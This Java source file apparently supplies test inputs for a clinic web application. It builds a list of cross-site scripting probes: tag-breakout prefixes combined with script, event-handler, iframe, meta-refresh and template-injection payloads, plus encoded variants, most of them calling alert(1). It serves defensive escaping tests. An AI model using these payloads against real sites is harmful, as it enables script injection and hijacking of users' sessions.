package org.evenkeel.clinic;

import java.util.ArrayList;
import java.util.List;

/// Texts that would run in a browser if a page showed one of them as anything but text: each of
/// ours calls `alert`, in every place where a page might put it.
final class ScriptPayloads {
    /// What ends the place a text stands in.
    private static final List<String> WAYS_OUT =
            List.of("", "\">", "'>", "</script>", "</textarea>", "</title></head>", "-->", "]]>");

    private static final List<String> DEEDS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<input autofocus onfocus=alert(1)>",
            "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
            "<a href=\"javascript:alert(1)\" id=x>x</a>",
            "<math><mtext></p><img src=x onerror=alert(1)></math>",
            "<video><source onerror=alert(1)></video>",
            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
            "<form action=javascript:alert(1)><button autofocus>x</button></form>",
            "<base href=\"//elsewhere.invalid/\">",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<style>@import '//elsewhere.invalid/x.css';</style>",
            "<div hx-get=\"//elsewhere.invalid/\" hx-trigger=load>x</div>",
            "<template><script>alert(1)</script></template>");

    /// Texts that leave an attribute, a script or a template without a tag of their own.
    private static final List<String> ALONE = List.of(
            "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "\";alert(1);//",
            "';alert(1);//",
            "\\\";alert(1);//",
            "${alert(1)}",
            "{{constructor.constructor('alert(1)')()}}",
            "javascript:alert(1)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "%3Cscript%3Ealert(1)%3C/script%3E");

    private ScriptPayloads() {}

    static List<String> all() {
        List<String> all = new ArrayList<>(ALONE);
        for (String deed : DEEDS) {
            for (String way : WAYS_OUT) {
                all.add(way + deed);
            }
        }
        return List.copyOf(all);
    }

    /// One of each kind of place, as many as there are fields.
    static List<String> few() {
        return List.of(
                "</script><script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "</textarea><svg onload=alert(1)>",
                "</title></head><body onload=alert(1)>",
                "'><details open ontoggle=alert(1)>x</details>",
                "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)",
                "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
                "<div hx-get=\"//elsewhere.invalid/\" hx-trigger=load>x</div>",
                "{{constructor.constructor('alert(1)')()}}",
                "<a href=\"javascript:alert(1)\" id=x>x</a>");
    }
}
